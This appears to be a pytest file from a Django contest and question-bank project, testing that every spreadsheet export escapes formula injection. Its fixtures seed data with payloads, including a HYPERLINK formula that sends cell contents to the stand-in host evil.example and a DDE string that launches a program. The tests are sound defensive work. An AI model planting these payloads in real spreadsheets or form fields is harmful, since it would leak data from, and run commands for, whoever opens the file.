"""Every xlsx/csv export of the project, fed formula-laden data (question stems, options, explanations,
topic and organisation names, user names, essay titles, judges' comments, contest titles), writes no
cell that a spreadsheet program would run as a formula.

`EXPORTS` names every export; `test_every_export_in_the_code_is_listed_here` fails when a module that
builds spreadsheets is added without being added to the list."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.credentials import initial_passwords_store
from accounts.models import User
from competitions.services import answer_save, attempt_start, attempt_submit
from core.spreadsheet import FORMULA_PREFIXES
from judging.models import Award, AwardTier, EntryVersion
from questionbank.models import Question, QuestionRevision, Topic
from tests.competitions.factories import make_contest, make_question
from tests.factories import make_student
from tests.judging.factories import World

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
PAYLOADS = [EVIL, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "＝1+1", "=cmd|' /C calc'!A0"]

# (name, how to request it): every spreadsheet the project serves.
EXPORTS = [
    "questionbank:export.xlsx",
    "questionbank:template",
    "competitions:contest_export",
    "judging:export_xlsx",
    "results:stats_contest_xlsx knowledge",
    "results:stats_contest_xlsx submission",
    "results:stats_trends_xlsx",
    "accounts:roster_credentials",
    "accounts:roster_template",
    "admin:accounts_user_export xlsx",
    "admin:accounts_user_export csv",
    "admin:accounts_organization_export xlsx",
    "admin:accounts_organization_export csv",
    "stage:export",
]
# Modules that build spreadsheets; each one is reached by some entry of EXPORTS above.
SPREADSHEET_MODULES = {
    "questionbank/importers/writers.py",
    "competitions/views/organisers.py",
    "judging/export.py",
    "judging/statistics.py",  # the per-unit works statistics sheet, every cell through safe_cell
    "results/xlsx.py",
    "accounts/roster/writing.py",
    "accounts/roster/resource.py",
    # volunteer credentials and template (every cell through safe_cell; tests/accounts cover the import)
    "accounts/volunteers.py",
    "accounts/admin/organisations.py",
    "accounts/admin/people.py",
    # demo accounts only (our own role names, usernames and passwords), still written through safe_cell
    "accounts/management/commands/seed_demo.py",
    "stage/reports.py",
    # reached by their apps' own formula tests (tests/honours/test_pages.py, tests/reading/test_statistics.py)
    "honours/export.py",
    "reading/xlsx.py",
}


def evil(i: int) -> str:
    return PAYLOADS[i % len(PAYLOADS)]


@pytest.fixture
def world(db, django_user_model):
    w = World(schools=2, judges=3, k=2)
    t = w.tree
    for i, org in enumerate([t.city, t.district_a, t.district_b, t.school_a, t.class_a, *w.schools]):
        org.name = f"{evil(i)}{org.pk}"
        org.save()
    for i, user in enumerate([t.student_a, *w.students, *w.judges]):
        user.real_name = evil(i)
        user.save(update_fields=["real_name"])
    # knowledge contest: formula stems, options and explanations; students answer so item analysis exists
    topic = Topic.objects.create(name=EVIL)
    revisions = [make_question(topic=topic) for _ in range(2)]
    for i, revision in enumerate(revisions):
        content = {
            "stem": evil(i),
            "explanation": evil(i + 1),
            "options": [{"key": k, "text": evil(j)} for j, k in enumerate("ABCD")],
            "source": evil(i + 2),
            "tags": [evil(i + 3)],
        }
        QuestionRevision.objects.filter(pk=revision.pk).update(**content)
        Question.objects.filter(pk=revision.question_id).update(**content)
    w.knowledge = make_contest(owner_org=t.city, title=EVIL, fixed=[(r, "5") for r in revisions], shuffle_options=False)
    for student in [t.student_a, *w.students]:
        attempt, _ = attempt_start(user=student, contest_id=w.knowledge.pk)
        answer_save(user=student, attempt_id=attempt.pk, question_id=revisions[0].pk, answer=["A"])
        attempt_submit(user=student, attempt_id=attempt.pk)
    # essay contest: formula titles, judges' comments, an award
    w.contest.title = "-" + w.contest.title
    w.contest.save(update_fields=["title"])
    for i, entry in enumerate(w.entries):
        EntryVersion.objects.filter(entry=entry).update(title=evil(i))
    w.open_and_assign()
    for assignment in w.round.assignments.all():
        w.score(assignment, [20, 20, 15, 15], comment=EVIL)
    Award.objects.create(
        contest=w.contest, entry=w.entries[0], tier=AwardTier.FIRST, rank=1, score=70, published_at=timezone.now()
    )
    # a roster import's accounts, as the import leaves them for the importer to download again
    imported = make_student(t.class_a, username="-u", real_name=EVIL, must_change_password=True)
    User.objects.filter(pk=imported.pk).update(student_no="+1")
    initial_passwords_store(issued_by=t.city_organiser, batch="tok", passwords={imported.pk: "@p"})
    t.city_organiser.is_staff = True
    t.city_organiser.save(update_fields=["is_staff"])
    w.stage = _stage_event(t)
    return w


def _stage_event(tree):
    """A 老少同台 stage event with formula-like performer names, judged and locked."""
    from stage import services as stage_services
    from stage.models import Performer
    from tests.stage.factories import T0, Stage, at

    st = Stage(tree=tree, judges=3, performers=2, draw=False)
    for i, performer in enumerate(st.performers):
        Performer.objects.filter(pk=performer.pk).update(name=evil(i))
    stage_services.draw_commit(actor=st.host, event_id=st.event.pk, public_input_rule="x", now=T0)
    stage_services.draw_perform(actor=st.host, event_id=st.event.pk, public_input="1", now=T0)
    for performer in Performer.objects.filter(event=st.event).order_by("running_order"):
        st.open(performer)
        st.score_all(performer, [20, 22, 24])
        stage_services.performer_lock(actor=st.host, event_id=st.event.pk, performer_id=performer.pk, now=at(1))
    return st.event


def fetch(client, world, name: str) -> tuple[str, bytes]:
    """(format, body) of one export, requested as a city organiser."""
    client.force_login(world.tree.city_organiser)
    route, _, arg = name.partition(" ")
    if route == "questionbank:export.xlsx":
        response = client.get(reverse("questionbank:export", args=["xlsx"]))
    elif route == "competitions:contest_export":
        response = client.get(reverse(route, args=[world.knowledge.pk]))
    elif route == "judging:export_xlsx":
        response = client.get(reverse(route, args=[world.contest.pk]))
    elif route == "results:stats_contest_xlsx":
        pk = world.knowledge.pk if arg == "knowledge" else world.contest.pk
        response = client.get(reverse(route, args=[arg, pk]))
    elif route == "stage:export":
        response = client.get(reverse(route, args=[world.stage.pk]))
    elif route == "accounts:roster_credentials":
        response = client.get(reverse(route, args=["tok"]))
    elif route.startswith("admin:"):
        model = route.split("_")[1]
        resource = {"user": "rosterresource", "organization": "organizationresource"}[model]
        form = client.get(reverse(route)).context["form"]
        choices = form.fields["format"].choices
        data = {"format": next(value for value, label in choices if arg in str(label).lower()), "resource": "0"}
        data.update({k: "on" for k in form.fields if k.startswith(resource + "_")})
        response = client.post(reverse(route), data)
    else:
        response = client.get(reverse(route))
    assert response.status_code == 200, (name, response.status_code)
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return ("csv" if arg == "csv" else "xlsx"), body


def cells(fmt: str, body: bytes) -> list:
    if fmt == "csv":
        text = body.decode("utf-8-sig")
        return [("s", value) for row in csv.reader(io.StringIO(text)) for value in row]
    workbook = load_workbook(io.BytesIO(body))
    return [(cell.data_type, cell.value) for ws in workbook.worksheets for row in ws.iter_rows() for cell in row]


@pytest.mark.django_db
@pytest.mark.parametrize("name", EXPORTS)
def test_export_writes_no_formula_cell(client, world, name):
    fmt, body = fetch(client, world, name)
    found = cells(fmt, body)
    assert found, name
    live = [value for data_type, value in found if data_type == "f" or str(value or "").startswith(FORMULA_PREFIXES)]
    assert live == [], (name, live[:5])


@pytest.mark.django_db
@pytest.mark.parametrize(
    "name",
    [
        "questionbank:export.xlsx",
        "competitions:contest_export",
        "judging:export_xlsx",
        "results:stats_contest_xlsx knowledge",
        "accounts:roster_credentials",
        "admin:accounts_user_export csv",
        "admin:accounts_organization_export xlsx",
    ],
)
def test_export_keeps_the_formula_text_readable(client, world, name):
    """The escaped text is still there (one apostrophe in front), not dropped or mangled."""
    fmt, body = fetch(client, world, name)
    values = [str(value) for _t, value in cells(fmt, body) if value is not None]
    assert any(v.startswith("'") and v[1:].startswith(FORMULA_PREFIXES) for v in values), name


def test_every_export_in_the_code_is_listed_here():
    pattern = re.compile(r"Workbook\(|csv\.writer|export_data\(|spreadsheetml|text/csv|resources\.ModelResource")
    builders = set()
    for path in ROOT.glob("*/**/*.py"):
        rel = path.relative_to(ROOT).as_posix()
        if rel.startswith((".venv/", "tests/", "bench/")) or "/migrations/" in rel:
            continue
        if pattern.search(path.read_text(encoding="utf-8")):
            builders.add(rel)
    views_only = {
        "questionbank/views.py",
        "judging/views/organisers.py",
        "accounts/views/roster.py",
        "stage/views/manage.py",
        "honours/views/manage.py",
        "reading/views/teacher.py",
    }
    assert builders - views_only - {"results/views/stats.py"} <= SPREADSHEET_MODULES, builders - SPREADSHEET_MODULES
